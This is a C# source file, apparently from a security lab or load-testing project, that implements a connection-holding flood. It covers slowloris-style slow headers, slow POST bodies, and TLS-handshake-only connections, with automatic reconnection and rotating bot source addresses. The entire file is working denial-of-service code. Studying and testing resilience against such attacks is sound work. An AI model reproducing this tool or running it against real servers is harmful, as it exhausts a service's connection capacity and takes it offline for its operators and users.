using System.Net;
using System.Net.Sockets;
using System.Security.Authentication;
using System.Text;
using Hustings.Lab.Attacks.Wire;

namespace Hustings.Lab.Attacks.Flood;

/// <summary>Connections that are held rather than used: slow headers, slow bodies, TLS and nothing after it, silence.</summary>
public sealed class HeldFlood(FloodPlan plan, FloodTally tally, TimeProvider clock)
{
    // As slowhttptest does: just often enough to look alive.
    private static readonly TimeSpan Drip = TimeSpan.FromSeconds(3);
    private static readonly TimeSpan Connecting = TimeSpan.FromSeconds(10);
    private static readonly TimeSpan Breath = TimeSpan.FromMilliseconds(50);
    private int next;

    public async Task RunAsync(CancellationToken cancellation) =>
        await Task.WhenAll(
            Enumerable
                .Range(0, plan.Connections)
                .Select(place => Task.Run(() => KeepAsync(place, cancellation), CancellationToken.None))
        );

    // One place of many: whenever its connection ends, it makes another.
    private async Task KeepAsync(int place, CancellationToken cancellation)
    {
        // Not all in the same instant.
        double spread = plan.PerSecond > 0 ? place / plan.PerSecond : place * 0.001;
        try
        {
            await Task.Delay(TimeSpan.FromSeconds(spread), clock, cancellation);
            while (tally.CountSent() <= plan.Most)
            {
                await HoldAsync(cancellation);
                await Task.Delay(Breath, clock, cancellation);
            }
        }
        catch (OperationCanceledException)
        {
            // The flood is over.
        }
    }

    private async Task HoldAsync(CancellationToken cancellation)
    {
        using var connecting = CancellationTokenSource.CreateLinkedTokenSource(cancellation);
        connecting.CancelAfter(Connecting);
        int number = Interlocked.Increment(ref next);
        IPAddress from = plan.Sender is { } one ? IPAddress.Parse(one) : Sources.Bot(number % plan.Sources);
        try
        {
            // Half open: the plain connection only, whatever the server speaks.
            Target target = plan.Kind == FloodKind.HalfOpen ? plan.Target with { Tls = false } : plan.Target;
            HttpWire wire = await HttpWire.ConnectAsync(target, from, connecting.Token);
            tally.CountConnected();
            try
            {
                await DripAsync(wire, cancellation);
            }
            finally
            {
                tally.CountClosed();
                wire.Cut();
            }
        }
        catch (Exception lost)
            when (lost is SocketException or IOException or AuthenticationException
                || (lost is OperationCanceledException && !cancellation.IsCancellationRequested)
            )
        {
            tally.CountFailed();
        }
    }

    private async Task DripAsync(HttpWire wire, CancellationToken cancellation)
    {
        string start = plan.Kind switch
        {
            FloodKind.SlowHeader => $"GET {plan.Page ?? "/"} HTTP/1.1\r\nHost: localhost\r\n",
            FloodKind.SlowBody =>
                $"POST {plan.Target.Path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 8000\r\n\r\n",
            _ => "",
        };
        if (start.Length > 0)
        {
            await wire.SendAsync(Encoding.ASCII.GetBytes(start), cancellation);
        }

        if (plan is { Kind: FloodKind.HandshakeOnly, KeepAlive: false })
        {
            return;
        }

        string drip = plan.Kind == FloodKind.SlowHeader ? "X-a: b\r\n" : "x";
        while (true)
        {
            using var pause = CancellationTokenSource.CreateLinkedTokenSource(cancellation);
            pause.CancelAfter(Drip);
            if (await wire.IsClosedAsync(pause.Token))
            {
                return;
            }

            cancellation.ThrowIfCancellationRequested();
            if (start.Length > 0)
            {
                await wire.SendAsync(Encoding.ASCII.GetBytes(drip), cancellation);
            }
        }
    }
}
